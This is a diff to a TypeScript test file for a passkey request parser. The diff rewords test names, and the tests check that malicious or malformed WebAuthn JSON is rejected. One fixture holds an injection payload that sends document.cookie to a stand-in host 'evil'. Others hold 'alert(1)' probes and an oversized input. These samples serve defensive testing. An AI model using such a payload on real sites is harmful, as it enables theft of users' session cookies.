@@ -11,12 +11,12 @@ const request: PasskeyRequest = {
   extensions: { appid: 'https://web.whatsapp.com/app' },
 };
 
-it('takes a request as WebAuthn writes it', () => {
+it('accepts a request in the JSON form of WebAuthn', () => {
   expect(parsePasskeyRequest(JSON.stringify(request))).toEqual(request);
   expect(parsePasskeyRequest('{"challenge":"Zm9v"}')).toEqual({ challenge: 'Zm9v' });
 });
 
-it('leaves out every member that is of no known form', () => {
+it('drops every member of an unknown form', () => {
   const hostile = {
     ...request,
     rpId: '"}), fetch("//evil/" + document.cookie), ({"',
@@ -38,8 +38,8 @@ it.each([
   ['no JSON', 'alert(1)'],
   ['no object', '[]'],
   ['no challenge', '{"rpId":"whatsapp.com"}'],
-  ['a challenge that is no base64url', '{"challenge":"a) + alert(1"}'],
+  ['a challenge that is not base64url', '{"challenge":"a) + alert(1"}'],
   ['a challenge of 10 MB', JSON.stringify({ challenge: 'a'.repeat(10_000_000) })],
-])('takes %s for no request', (_, text) => {
+])('returns undefined for %s', (_, text) => {
   expect(parsePasskeyRequest(text)).toBeUndefined();
 });
